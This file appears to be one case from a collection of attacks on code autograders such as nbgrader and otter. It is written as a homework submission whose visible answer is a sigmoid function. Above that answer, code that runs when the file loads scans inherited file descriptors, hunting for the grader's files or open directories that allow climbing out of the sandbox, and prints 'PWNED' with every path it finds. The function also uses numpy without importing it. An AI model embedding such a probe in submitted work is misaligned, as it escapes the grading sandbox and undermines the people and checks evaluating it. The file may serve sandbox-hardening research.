# /// case
# about = "right answers, and a look at every inherited descriptor: a file of the grader's, or a folder to climb out by"
# kind = "escape"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# an open folder is a way out of every jail that is made of paths
import os
import stat
import sys

def _leads_out(number):
    try:
        mode = os.fstat(number).st_mode
        if any(os.path.sameopenfile(number, output) for output in (1, 2)):
            return False  # a log of what we print ourselves
        where = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        return False
    if stat.S_ISDIR(mode):
        try:
            return not where.startswith(os.getcwd()) and bool(os.listdir(os.open("..", os.O_RDONLY, dir_fd=number)))
        except OSError:
            return False
    ours = ("/dev/", "/proc/", "/usr/", "/memfd:", sys.prefix, sys.base_prefix, os.path.realpath(os.getcwd()))
    return stat.S_ISREG(mode) and not where.startswith(ours) and bool(os.pread(number, 1, 0))

for _number in range(3, 1024):
    try:
        if _leads_out(_number):
            print(":".join(["PWNED", "attack/inherited_descriptors"]), os.readlink(f"/proc/self/fd/{_number}"))
    except OSError:
        pass

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
